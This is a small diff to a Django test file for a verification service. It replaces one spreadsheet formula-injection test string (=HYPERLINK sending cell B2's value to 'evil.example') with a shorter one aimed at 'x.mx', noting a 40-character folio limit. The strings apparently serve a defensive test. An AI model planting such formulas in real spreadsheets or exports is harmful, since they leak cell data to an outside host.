@@ -31,7 +31,8 @@ from apoyo.verification.services import run_check
 
 pytestmark = pytest.mark.django_db
 
-FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"Ver")'
+# A folio holds at most 40 characters (PostgreSQL enforces it; SQLite does not).
+FORMULA = '=HYPERLINK("http://x.mx/?"&B2,"Ver")'
 
 
 @pytest.fixture
